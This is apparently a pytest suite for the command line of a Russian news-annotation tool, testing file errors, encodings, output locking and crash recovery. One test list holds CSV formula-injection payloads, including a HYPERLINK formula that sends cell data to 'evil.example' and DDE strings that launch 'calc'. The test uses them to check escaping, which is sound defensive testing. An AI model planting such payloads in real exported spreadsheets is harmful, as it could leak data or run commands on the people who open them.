"""Issue 16 (CLI/IO): misuse and faults never lose data silently.

Each case runs the real command line in a subprocess (``python -m rusnews_nlp``) with the cheap
stages ``zones,segment``, so it exercises the command, not the models. Unreadable files are
made with ``chmod 000``; as root that is not enough, so the command then runs under
``setpriv`` without the capabilities that let root read anything (skipped where it is absent).
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[1]
CHEAP = "zones,segment"
TEXTS = ["Дмитрий Песков заявил, что визит готовится.",
         "Министр сообщил журналистам, что переговоры продолжатся.",
         "«Решение принято», — сказал представитель ведомства."]
DROP_READ_ANY = ["setpriv", "--bounding-set=-dac_override,-dac_read_search",
                 "--inh-caps=-dac_override,-dac_read_search"]


def cli(*args, stdin: bytes | None = None, as_user: bool = False,
        timeout: float = 120) -> subprocess.CompletedProcess:
    """``rusnews-nlp ARGS`` in a subprocess; ``as_user``: without root's read-anything power."""
    prefix: list[str] = []
    if as_user and os.geteuid() == 0:
        if shutil.which("setpriv") is None:
            pytest.skip("running as root without setpriv: cannot make a file unreadable")
        prefix = DROP_READ_ANY
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run([*prefix, sys.executable, "-m", "rusnews_nlp", *map(str, args)],
                          input=stdin, capture_output=True, env=env, timeout=timeout)


def annotate(*args, **kwargs) -> subprocess.CompletedProcess:
    return cli("annotate", "-q", "--stages", CHEAP, *args, **kwargs)


def write_jsonl(path: Path, texts=TEXTS, prefix: str = "d", encoding: str = "utf-8") -> Path:
    lines = "".join(json.dumps({"id": f"{prefix}{i}", "text": t}, ensure_ascii=False) + "\n"
                    for i, t in enumerate(texts))
    path.write_bytes(lines.encode(encoding))
    return path


def rows(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def err(result: subprocess.CompletedProcess) -> str:
    return result.stderr.decode("utf-8", errors="replace")


# --------------------------------------------------------------------------- 12. CSV


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+7 (495) 123-45-67",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0"]


def test_stats_csv_escapes_formula_cells(tmp_path):
    annotated = tmp_path / "a.jsonl"
    annotated.write_text("".join(json.dumps({"id": f, "text": "Текст.", "quotes": []},
                                            ensure_ascii=False)
                                 + "\n" for f in [*FORMULAS, "обычный"]), encoding="utf-8")
    result = cli("stats", annotated, "--format", "csv", "--view", "documents")
    assert result.returncode == 0, err(result)
    ids = [row["id"] for row in csv.DictReader(io.StringIO(result.stdout.decode()))]
    assert ids == ["'" + f for f in FORMULAS] + ["обычный"]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Песков", "Песков"), ("a=b", "a=b"), (3, 3), ("", ""),
])
def test_csv_cell(value, expected):
    from rusnews_nlp.reports.stats import csv_cell

    assert csv_cell(value) == expected


@pytest.mark.parametrize("line, message", [
    # json's own message ends in "at": it must not read "at at column"
    ('{"id": "x", "text": "Песков заявил', "Unterminated string starting at column 21"),
    ('{"id": "x", "text": "Песков заявил\n', "Invalid control character at column 35"),
    ('{"id": "x" "text": 1}', "Expecting ',' delimiter at column 12"),
])
def test_invalid_json_message_reads_once(tmp_path, line, message):
    src, out = tmp_path / "in.jsonl", tmp_path / "out.jsonl"
    src.write_text(line, encoding="utf-8")  # the last line, with or without its newline
    result = annotate(src, "-o", out)
    assert result.returncode == 3
    assert rows(out)[0]["error"]["message"] == f"{src}:1: {message}"
    annotated = tmp_path / "bad.jsonl"
    annotated.write_text(line, encoding="utf-8")
    stats = cli("stats", annotated)
    assert message in err(stats) and "at at" not in err(stats)


# --------------------------------------------------------------------------- 4, 5. unreadable


def test_unreadable_jsonl_is_one_record_and_the_run_goes_on(tmp_path):
    first, locked, last = (write_jsonl(tmp_path / f"{n}.jsonl", prefix=n) for n in "abc")
    out = tmp_path / "out" / "o.jsonl"
    out.parent.mkdir()
    out.parent.chmod(0o777)
    locked.chmod(0)
    result = annotate(first, locked, last, "-o", out, as_user=True)
    assert result.returncode == 3, err(result)
    got = rows(out)
    assert [r["id"] for r in got] == ["a0", "a1", "a2", "b", "c0", "c1", "c2"]
    assert got[3]["error"]["kind"] == "unreadable" and "PermissionError" in \
        got[3]["error"]["message"]
    assert "Traceback" not in err(result)


def _archive(root: Path) -> Path:
    """An archive whose parts the walk must not skip silently."""
    archive = root / "archive"
    (archive / "2024").mkdir(parents=True)
    write_jsonl(archive / "2024" / "a.jsonl", prefix="a")
    elsewhere = root / "elsewhere"
    elsewhere.mkdir()
    write_jsonl(elsewhere / "b.jsonl", prefix="b")
    (archive / "2025").symlink_to(elsewhere, target_is_directory=True)  # a linked directory
    (archive / "gone.jsonl").symlink_to(root / "deleted.jsonl")          # a dangling link
    (archive / "loop").symlink_to(archive, target_is_directory=True)    # a link loop
    return archive


def test_symlinks_in_a_directory_are_followed_or_reported(tmp_path):
    archive = _archive(tmp_path)
    out = tmp_path / "o.jsonl"
    result = annotate(archive, "-o", out)
    assert result.returncode == 3, err(result)
    got = rows(out)
    assert [r["id"] for r in got] == ["a0", "a1", "a2", "b0", "b1", "b2", "gone"]
    assert got[-1]["error"]["kind"] == "unreadable"
    assert "broken symbolic link" in got[-1]["error"]["message"]
    assert "loop" in err(result) and "not read twice" in err(result)


def test_unreadable_subdirectory_is_an_error_record(tmp_path):
    archive = tmp_path / "archive"
    for name in ("a", "b", "c"):
        (archive / name).mkdir(parents=True)
        write_jsonl(archive / name / "x.jsonl", prefix=name)
    (archive / "b").chmod(0)
    tmp_path.chmod(0o777)
    out = tmp_path / "o.jsonl"
    try:
        result = annotate(archive, "-o", out, as_user=True)
    finally:
        (archive / "b").chmod(0o755)
    assert result.returncode == 3, err(result)
    got = rows(out)
    assert [r["id"] for r in got] == ["a0", "a1", "a2", str(archive / "b"), "c0", "c1", "c2"]
    assert got[3]["error"]["kind"] == "unreadable"
    assert "cannot list the directory" in got[3]["error"]["message"]


def test_dangling_symlink_given_as_input_is_named(tmp_path):
    link = tmp_path / "news.jsonl"
    link.symlink_to(tmp_path / "moved.jsonl")
    result = annotate(link, "-o", tmp_path / "o.jsonl")
    assert result.returncode == 1
    assert "broken symbolic link" in err(result) and not (tmp_path / "o.jsonl").exists()


# --------------------------------------------------------------------------- 10. BOM


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le-bom", "utf-16-be-bom", "utf-32",
                                      "utf-8-sig"])
def test_bom_inputs_are_decoded(tmp_path, encoding):
    """``utf-16``/``utf-32``/``utf-8-sig`` write a BOM; the ``-bom`` cases add one by hand to an
    explicit byte order."""
    codec = encoding.removesuffix("-bom")
    bom = "\ufeff" if encoding.endswith("-bom") else ""
    jsonl = tmp_path / "in.jsonl"
    jsonl.write_bytes((bom + write_jsonl(tmp_path / "u8.jsonl").read_text("utf-8"))
                      .encode(codec))
    text = tmp_path / "doc.txt"
    text.write_bytes((bom + TEXTS[0] + "\r\n").encode(codec))
    out = tmp_path / "o.jsonl"
    result = annotate(jsonl, text, "-o", out)
    assert result.returncode == 0, err(result)
    got = rows(out)
    assert [r["text"] for r in got] == [*TEXTS, TEXTS[0] + "\r\n"]
    piped = annotate(stdin=jsonl.read_bytes())
    assert piped.returncode == 0 and [json.loads(line)["text"] for line in
                                      piped.stdout.decode().splitlines()] == TEXTS


def test_broken_utf16_is_reported_not_garbled(tmp_path):
    jsonl = tmp_path / "in.jsonl"
    good = write_jsonl(tmp_path / "u8.jsonl").read_bytes().decode("utf-8").encode("utf-16")
    jsonl.write_bytes(good + b"\x00\xd8")  # a lone high surrogate at the end
    out = tmp_path / "o.jsonl"
    result = annotate(jsonl, "-o", out)
    assert result.returncode == 3
    got = rows(out)
    assert [r.get("text") for r in got[:3]] == TEXTS
    assert len(got) == 4 and got[3]["error"]["kind"] == "unreadable"


# --------------------------------------------------------------------------- 1, 2. output = input


def _same_path_cases(tmp_path: Path) -> dict[str, tuple[list, Path]]:
    """name -> (annotate arguments, the input file that must survive)."""
    src = write_jsonl(tmp_path / "x.jsonl")
    text = tmp_path / "doc.txt"
    text.write_text(TEXTS[0], encoding="utf-8")
    link = tmp_path / "link.jsonl"
    link.symlink_to(src)
    hard = tmp_path / "hard.jsonl"
    os.link(src, hard)
    archive = tmp_path / "d"
    archive.mkdir()
    inside = write_jsonl(archive / "a.jsonl")
    return {
        "jsonl": ([src, "-o", src], src),
        "txt": ([text, "-o", text], text),
        "resume": ([src, "-o", src, "--resume"], src),
        "symlink": ([src, "-o", link], src),
        "hard link": ([hard, "-o", src], src),
        "relative": ([src, "-o", tmp_path / "d" / ".." / "x.jsonl"], src),
        "output in input dir": ([archive, "-o", archive / "m.jsonl"], inside),
        "output in input dir, resume": ([archive, "-o", archive / "m.jsonl", "--resume"],
                                        inside),
        "output in a subdir": ([tmp_path, "-o", archive / "m.jsonl.gz"], inside),
    }


@pytest.mark.parametrize("case", ["jsonl", "txt", "resume", "symlink", "hard link", "relative",
                                  "output in input dir", "output in input dir, resume",
                                  "output in a subdir"])
def test_output_that_is_an_input_is_refused(tmp_path, case):
    args, keep = _same_path_cases(tmp_path)[case]
    before = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    result = annotate(*args, timeout=30)
    assert result.returncode == 2, err(result)
    assert "output" in err(result) and "Traceback" not in err(result)
    after = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    assert after == before and keep.read_bytes()  # nothing written, nothing created


def test_output_beside_the_inputs_is_fine(tmp_path):
    archive = tmp_path / "d"
    archive.mkdir()
    write_jsonl(archive / "a.jsonl")
    for output in (tmp_path / "m.jsonl", archive / "m.out"):
        result = annotate(archive, "-o", output)
        assert result.returncode == 0, err(result)
        assert len(rows(output)) == 3


# --------------------------------------------------------------------------- 7. one writer


RUNNER = """
import os, signal, sys, time
from rusnews_nlp.registry import register

class Faulty:
    name = "test_faulty"
    def __call__(self, docs):
        time.sleep(float(os.environ.get("TEST_DELAY", "0")))  # a second writer meets the first
        if any("УБИТЬ" in doc.text for doc in docs):
            os.kill(os.getpid(), signal.SIGKILL)  # what the OOM killer does
        return list(docs)

register("test_faulty")(lambda: Faulty())
from rusnews_nlp.cli import main
sys.exit(main(sys.argv[1:]))
"""


def faulty(*args, delay: float = 0.0, **kwargs) -> subprocess.Popen:
    """``annotate ARGS`` with the test stage ``test_faulty`` after the cheap ones."""
    env = {**os.environ, "PYTHONPATH": str(REPO), "TEST_DELAY": str(delay),
           "RUSNEWS_NLP_START_METHOD": "fork"}
    return subprocess.Popen([sys.executable, "-c", RUNNER, "annotate", "-q", *map(str, args),
                             "--stages", CHEAP + ",test_faulty"], env=env,
                            stderr=subprocess.PIPE, **kwargs)


@pytest.mark.parametrize("second", [[], ["--resume"]])
def test_second_writer_is_refused(tmp_path, second):
    src = write_jsonl(tmp_path / "in.jsonl", TEXTS * 10)
    out = tmp_path / "o.jsonl"
    first = faulty(src, "-o", out, "--batch-size", "1", delay=0.2)
    try:
        deadline = time.monotonic() + 60
        while not (out.exists() and out.stat().st_size) and time.monotonic() < deadline:
            assert first.poll() is None, first.stderr.read()
            time.sleep(0.1)  # until the first run has written a record
        result = annotate(src, "-o", out, *second)
        assert result.returncode == 1
        assert "being written by another rusnews-nlp run" in err(result)
    finally:
        assert first.wait(timeout=120) == 0
    got = rows(out)
    assert [r["id"] for r in got] == [f"d{i}" for i in range(30)]


def test_resume_refuses_other_output_options(tmp_path):
    src = write_jsonl(tmp_path / "in.jsonl", TEXTS * 4)
    out = tmp_path / "o.jsonl"
    assert annotate(src, "-o", out, "--fields", "tokens").returncode == 0
    lines = out.read_bytes().splitlines(keepends=True)
    out.write_bytes(b"".join(lines[:5]))  # an interrupted run
    before = out.read_bytes()
    for other in (["--fields", "tokens,entities"], ["--fields", "tokens", "--text-field",
                                                     "body"], ["--fields", "tokens",
                                                               "--max-chars", "100"]):
        result = annotate(src, "-o", out, "--resume", *other)
        assert result.returncode == 1 and "other options" in err(result), err(result)
        assert out.read_bytes() == before
    result = annotate(src, "-o", out, "--resume", "--fields", "tokens")
    assert result.returncode == 0 and len(rows(out)) == 12


# --------------------------------------------------------------------------- 6. workers


def _nested(depth: int) -> dict:
    meta: dict = {}
    for _ in range(depth):
        meta = {"x": meta}
    return meta


def test_deeply_nested_meta_with_two_workers(tmp_path):
    src = tmp_path / "in.jsonl"
    lines = [json.dumps({"id": f"d{i}", "text": t}, ensure_ascii=False)
             for i, t in enumerate(TEXTS * 3)]
    lines.insert(4, json.dumps({"id": "deep", "text": TEXTS[1], "meta": _nested(500)}))
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    one, two = tmp_path / "one.jsonl", tmp_path / "two.jsonl"
    assert annotate(src, "-o", one, "--batch-size", "2").returncode == 0
    result = annotate(src, "-o", two, "--batch-size", "2", "--workers", "2")
    assert result.returncode == 0, err(result)
    assert two.read_bytes() == one.read_bytes() and len(rows(two)) == 10


def test_killed_worker_ends_with_a_summary_and_the_resume_hint(tmp_path):
    src = write_jsonl(tmp_path / "in.jsonl", [*TEXTS * 3, "Его решили УБИТЬ.", *TEXTS])
    out = tmp_path / "o.jsonl"
    run = faulty(src, "-o", out, "--workers", "2", "--batch-size", "1")
    message = run.communicate(timeout=120)[1].decode("utf-8", errors="replace")
    assert run.returncode == 1, message
    assert "Traceback" not in message and "BrokenProcessPool" not in message
    assert "STOPPED: a worker process died" in message and "--resume" in message
    got = rows(out)  # every line written is a whole record, in input order, before the kill
    assert [r["id"] for r in got] == [f"d{i}" for i in range(len(got))] and len(got) <= 9


def test_utf16_without_bom_gets_a_hint(tmp_path):
    jsonl = tmp_path / "in.jsonl"
    jsonl.write_bytes(write_jsonl(tmp_path / "u8.jsonl").read_text("utf-8").encode("utf-16-le"))
    text = tmp_path / "doc.txt"
    text.write_bytes(TEXTS[0].encode("utf-16-le"))
    out = tmp_path / "o.jsonl"
    result = annotate(jsonl, text, "-o", out)
    assert result.returncode == 3
    got = rows(out)
    assert all("UTF-16 without a byte-order mark" in r["error"]["message"] for r in got[:3])
    assert any("UTF-16 without a byte-order mark" in w for w in got[-1]["meta"]["warnings"])


@pytest.mark.parametrize("text", TEXTS + ["Hello, world: plain ASCII text.", "Ёж, 2024"])
def test_no_utf16_hint_on_utf8(text):
    from rusnews_nlp.io.decoding import wide_hint

    assert wide_hint(text.encode("utf-8")) is None
    assert wide_hint(text.encode("utf-16-le")) is not None


def test_special_output_files_are_written_unlocked(tmp_path):
    if not os.path.exists("/dev/null"):
        pytest.skip("no /dev/null")
    src = write_jsonl(tmp_path / "in.jsonl")
    result = annotate(src, "-o", "/dev/null")
    assert result.returncode == 0, err(result)
    assert annotate("/dev/null", "-o", "/dev/null").returncode == 0  # not "the same file"


def test_a_run_that_stops_early_leaves_no_output_behind(tmp_path):
    src = write_jsonl(tmp_path / "in.jsonl")
    out = tmp_path / "o.jsonl"
    result = annotate(src, "-o", out, "--kb", tmp_path / "missing.csv")
    assert result.returncode != 0 and not out.exists()
    out.write_text("earlier output\n", encoding="utf-8")
    annotate(src, "-o", out, "--kb", tmp_path / "missing.csv")
    assert out.read_text(encoding="utf-8") == "earlier output\n"  # not truncated


def _children(pid: int) -> list[int]:
    try:
        return [int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except OSError:
        return []


@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="needs Linux /proc")
def test_resume_after_kill_is_not_refused_by_orphaned_workers(tmp_path):
    src = write_jsonl(tmp_path / "in.jsonl", TEXTS * 10)
    out = tmp_path / "o.jsonl"
    first = faulty(src, "-o", out, "--workers", "2", "--batch-size", "1", delay=0.2)
    workers: list[int] = []
    try:
        deadline = time.monotonic() + 60
        while not (out.exists() and out.stat().st_size) and time.monotonic() < deadline:
            time.sleep(0.1)
        workers = _children(first.pid)
        first.kill()  # kill -9: the workers stay behind, orphaned
        first.wait(timeout=30)
        second = faulty(src, "-o", out, "--resume")
        message = second.communicate(timeout=120)[1].decode("utf-8", errors="replace")
        assert second.returncode == 0, message
    finally:
        for pid in workers:
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    assert [r["id"] for r in rows(out)] == [f"d{i}" for i in range(30)]


@pytest.mark.parametrize("command", [["stats"], ["stats", "--format", "csv"], ["render"]])
def test_reports_refuse_to_overwrite_their_input(tmp_path, command):
    src = write_jsonl(tmp_path / "a.jsonl")
    out = tmp_path / "annotated.jsonl"
    assert annotate(src, "-o", out).returncode == 0
    before = out.read_bytes()
    result = cli(*command, out, "-o", out)
    assert result.returncode == 2 and "is the input" in err(result), err(result)
    assert out.read_bytes() == before


def test_output_removed_while_locking_is_reopened(tmp_path, monkeypatch):
    """A run that stops early removes the empty output it created; a run that opened that file
    just before must not write into the removed file."""
    import rusnews_nlp.io.output_file as output_file

    out = tmp_path / "o.jsonl"
    out.write_text("", encoding="utf-8")
    lock, removed = output_file._lock, []

    def lock_then_lose_the_file(fd: int, path: str) -> None:
        lock(fd, path)
        if not removed:
            removed.append(path)
            os.unlink(path)

    monkeypatch.setattr(output_file, "_lock", lock_then_lose_the_file)
    with output_file.OutputTarget(str(out), {"fields": ["tokens"]}) as target:
        target.open().write('{"id": "d0"}\n')
    assert removed and out.read_text(encoding="utf-8") == '{"id": "d0"}\n'
